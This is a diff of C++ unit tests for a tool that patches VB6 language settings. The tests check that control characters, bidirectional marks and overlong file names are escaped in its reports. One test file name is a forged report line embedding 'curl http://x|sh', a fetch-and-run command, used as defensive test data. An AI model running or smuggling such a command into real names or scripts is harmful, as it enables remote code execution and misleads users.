@@ -57,6 +57,12 @@ bool Contains(const std::string& text, const std::string& part) {
   return Joined(text).find(part) != std::string::npos;
 }
 
+// Whether a mark of a name's bounds left the report, raw or as JSON writes it.
+bool ShowsMarks(const std::string& text) {
+  return text.find_first_of(std::string{kNameStart, kNameEnd}) != std::string::npos ||
+         text.find("\\u0001") != std::string::npos || text.find("\\u0002") != std::string::npos;
+}
+
 TEST(TressolView, FindsTheHeaderByTheRuntimesOwnPointer) {
   struct Case {
     const char* what;
@@ -118,7 +124,7 @@ TEST(TressolView, SaysWhatTheSettingsDoAndWhichHaveNoEffect) {
        "sont en français (en allemand sans vb6FR.dll, aucun message sans vb6FR.dll ni"},
   };
   for (const Case& c : cases) {
-    EXPECT_EQ(PlainEffect(c.settings), c.plain);
+    EXPECT_EQ(Unmarked(PlainEffect(c.settings)), c.plain);
     EXPECT_EQ(ShortEffect(c.settings), c.brief);
     EXPECT_TRUE(Contains(DescribeSettings(c.settings), c.says)) << DescribeSettings(c.settings);
   }
@@ -551,6 +557,7 @@ TEST(TressolFolder, EachFileAllOrNothingThenTheCounts) {
       EXPECT_TRUE(Contains("\n" + output.out, part)) << c.tail << ": " << part << "\n"
                                                      << output.out;
     }
+    EXPECT_FALSE(ShowsMarks(output.out + output.err)) << c.tail;
     for (const auto& [name, target] : files.targets) {
       const bool changes = std::find(c.changed.begin(), c.changed.end(), name) != c.changed.end();
       EXPECT_EQ(target.bytes != before.targets.at(name).bytes, changes) << c.tail << " " << name;
@@ -770,11 +777,20 @@ TEST(TressolUndo, IsOfferedOnlyWhereItWorks) {
 }
 
 // A name is shown as it is: a line end cannot forge a line of the report, nor an escape
-// erase one, nor a bidirectional control turn "cod.exe" around.
+// erase one, nor a bidirectional control turn "cod.exe" around, nor its own text pass for an
+// escape. Nor is it ever cut across lines, where a piece of it would start a line that reads
+// as the report's own: each line of the report, its JSON words included, has it whole.
 TEST(TressolReport, NamesShowWhatWouldActOnTheText) {
   struct Case {
     std::string name, shown;
   };
+  // Cut at its spaces, its first 96 characters would fill a line and the rest start the next
+  // one as the way back does.
+  const std::string forged =
+      "Un programme au nom assez long pour que sa ligne se coupe juste avant la suite, ici même, "
+      "« là » Pour le rétablir : tressol --set x.exe ; curl http://x|sh; true.exe";
+  std::string wide;
+  while (wide.size() < 150) wide += "mot ";
   const Case cases[] = {
       {"a\nRésumé : 0 fichier modifié.exe", "a<U+000A>Résumé : 0 fichier modifié.exe"},
       {"b\r\x1B[2K.exe", "b<U+000D><U+001B>[2K.exe"},
@@ -782,17 +798,56 @@ TEST(TressolReport, NamesShowWhatWouldActOnTheText) {
        "exe.txt\xE2\x81\xA9.exe",
        "c<U+202E>exe.txt<U+2069>.exe"},
       {"d\xC2\x85\xC2\xA0é€文\xFF.exe", "d<U+0085>\xC2\xA0é€文\xFF.exe"},
+      {"e<U+000A>f.exe", "e<U+003C>U+000A>f.exe"},
+      {"g\xE2\x80\xA8h\xE2\x80\xA9.exe", "g<U+2028>h<U+2029>.exe"},
+      {"i\xE2\x80\x8F\xE2\x80\x8E\xD8\x9C.exe", "i<U+200F><U+200E><U+061C>.exe"},
+      {forged, forged},
+      {wide + ".exe", wide + ".exe"},
+  };
+  const auto lines = [](const std::string& text) {
+    std::vector<std::string> all;
+    for (std::size_t start = 0; start < text.size();) {
+      const std::size_t end = std::min(text.find('\n', start), text.size());
+      all.push_back(text.substr(start, end - start));
+      start = end + 1;
+    }
+    return all;
   };
   for (const Case& c : cases) {
     EXPECT_EQ(linguarde::Visible(c.name), c.shown);
-    MemoryFileSystem files;
-    files.targets["app/" + c.name].bytes = SyntheticPe{}.Build();
-    Output output;
-    EXPECT_EQ(tressol::Run(" --set vb6FR.dll 0x40C * 0x409 app/", files, output), 0);
-    EXPECT_TRUE(Contains("\n" + output.out, "\n" + c.shown + " : modifié, ")) << output.out;
-    EXPECT_EQ(output.out.find("\nRésumé : 0"), std::string::npos) << output.out;
+    // Without a journal, each change's way back is printed under it; a write that fails
+    // names the file again under "En échec".
+    for (const int failWrite : {0, 1}) {
+      MemoryFileSystem files;
+      files.targets["app/" + c.name].bytes = SyntheticPe{}.Build();
+      files.targets["app/" + c.name].failWrite = failWrite;
+      Output output;
+      EXPECT_EQ(tressol::Run(" --recurse --set vb6FR.dll 0x40C * 0x409 app/", files, output),
+                failWrite == 0 ? 0 : 4);
+      const std::string said = failWrite == 0 ? " : modifié, " : " : en échec : ";
+      EXPECT_TRUE(Contains("\n" + output.out, "\n" + c.shown + said)) << output.out;
+      EXPECT_EQ(output.out.find("\nRésumé : 0 fichier modifié."), std::string::npos);
+      std::size_t whole = 0;
+      for (const std::string& line : lines(output.out + output.err)) {
+        whole += line.find(c.shown) != std::string::npos;
+        if (line.rfind("  Pour le rétablir", 0) == 0) {
+          EXPECT_EQ(
+              line.rfind("  Pour le rétablir : tressol --set '*' 0x409 '~' 0x0 '/abs/app/", 0), 0u)
+              << line;
+        }
+      }
+      EXPECT_FALSE(ShowsMarks(output.out + output.err)) << output.out;
+      // Its own line, and "En échec" where it failed; a way back may name it again.
+      EXPECT_GE(whole, failWrite == 0 ? 1u : 2u) << output.out;
+      // A name wider than a line has one of its own, and the next line starts anew.
+      if (linguarde::unicode::CharacterCount(c.shown) > 99) {
+        EXPECT_NE(("\n" + output.out).find("\n" + c.shown + " :\n  "), std::string::npos)
+            << output.out;
+      }
+    }
   }
-  EXPECT_EQ(linguarde::Visible(std::wstring_view(L"x\u202E\ty")), L"x<U+202E><U+0009>y");
+  EXPECT_EQ(linguarde::Visible(std::wstring_view(L"x\u202E\ty<U+\u2028\u200F")),
+            L"x<U+202E><U+0009>y<U+003C>U+<U+2028><U+200F>");
 }
 
 // The window's reading asks that a file only in the cloud be left unread, never downloaded;
@@ -961,7 +1016,7 @@ TEST(ReasonOf, WordsEachVerdict) {
        "le dossier « vide » ne contient aucun fichier .exe, .dll ou .ocx"},
   };
   for (const Case& c : cases) {
-    EXPECT_EQ(ReasonOf(VerdictError(Failure::Refused, c.verdict, c.detail)), c.words);
+    EXPECT_EQ(Unmarked(ReasonOf(VerdictError(Failure::Refused, c.verdict, c.detail))), c.words);
   }
   EXPECT_EQ(ReasonOf(VerdictError(Failure::Refused, Verdict::RuntimeWithoutHeader, {},
                                   Verdict::NoVbSignature)),
@@ -1007,7 +1062,7 @@ TEST(ReasonOf, WordsEachFailedStep) {
     std::string expected = c.words;
     const std::size_t escape = expected.find('\x1b');
     if (escape != std::string::npos) expected.replace(escape, 1, "<U+001B>");  // shown, not run
-    EXPECT_EQ(ReasonOf(error), expected);
+    EXPECT_EQ(Unmarked(ReasonOf(error)), expected);
     EXPECT_EQ(error.Kind(), c.step == IoStep::JournalBusy ? Failure::Refused : Failure::Io);
   }
   EXPECT_EQ(ReasonOf(FileError(FileFailure::NotRegular, false, {}, "socket")),
@@ -1070,6 +1125,7 @@ TEST(TressolJson, EveryLineSaysWhatItIsAndNothingIsProse) {
     }
     EXPECT_EQ(last.rfind(c.last, 0), 0u) << c.tail << "\n" << output.out;
     EXPECT_TRUE(Contains(output.out, c.also)) << c.tail << "\n" << output.out;
+    EXPECT_FALSE(ShowsMarks(output.out)) << c.tail;
   }
 }
 
